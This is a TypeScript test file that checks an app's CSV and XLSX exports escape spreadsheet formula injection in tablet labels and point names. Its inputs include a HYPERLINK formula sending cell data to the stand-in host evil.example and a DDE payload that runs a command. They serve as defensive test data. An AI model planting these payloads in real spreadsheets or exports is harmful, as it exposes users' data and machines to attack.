import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeVisit } from '../support/visit-factory';
import { backends, testServer, type TestServer } from './app-fixture';
import { supervisorOf } from './tally-support';

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
/** Labels a tablet or an admin could type that a spreadsheet would run as formulas. */
const LABELS = [HYPERLINK, '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)'];
const POINT_NAME = '=1+1 Kerava';
const RANGE = 'from=2023-01&to=2023-06';

describe.each(backends)(
  'exports cannot attack the spreadsheet that opens them, on $title',
  ({ kind, skip }) => {
    let server: TestServer;
    let get: Awaited<ReturnType<typeof supervisorOf>>;
    beforeAll(async () => {
      if (skip) return;
      server = await testServer(kind);
      await server.asAdmin('POST', '/api/v1/points', { id: 'kerava', name: POINT_NAME });
      for (const label of LABELS) {
        const { token } = await server.enrolTablet('kerava', label);
        expect(
          await server.statuses(token, [makeVisit({ pointId: 'kerava', visitDate: '2023-02-01' })]),
        ).toEqual(['accepted']);
      }
      get = await supervisorOf(server, ['kerava']);
    }, 60_000);
    afterAll(async () => {
      if (!skip) await server.close();
    });

    it.skipIf(skip).each(['fi', 'sv', 'en'] as const)(
      'a %s CSV carries labels and point names as inert text and counts as numbers',
      async (lang) => {
        const response = await get(`${RANGE}&format=csv&lang=${lang}`);
        expect(response.statusCode).toBe(200);
        const text = response.rawPayload.toString('utf8').slice(1);
        const parsed = Papa.parse<string[]>(text, { delimiter: lang === 'en' ? ',' : ';' });
        expect(parsed.errors).toEqual([]);
        const cells = parsed.data.flat();
        for (const label of LABELS) {
          expect(cells).toContain(`'${label}`);
          expect(cells).not.toContain(label);
        }
        expect(cells).toContain(`'${POINT_NAME} (kerava)`);
        // No cell of the file starts a formula; the counts are bare digits, not quoted or escaped.
        expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
        expect(text).toMatch(/[;,]4[;,]/);
      },
    );

    it.skipIf(skip)('an XLSX keeps the same labels as string cells, never formulas', async () => {
      const response = await get(`${RANGE}&format=xlsx&lang=fi`);
      expect(response.statusCode).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      const found: unknown[] = [];
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.type === ExcelJS.ValueType.Formula) found.push(cell.formula);
            if (LABELS.includes(cell.value as string)) {
              expect(cell.type).toBe(ExcelJS.ValueType.String);
              found.push(cell.value);
            }
          }),
        ),
      );
      expect(found.sort()).toEqual([...LABELS].sort());
    });
  },
);
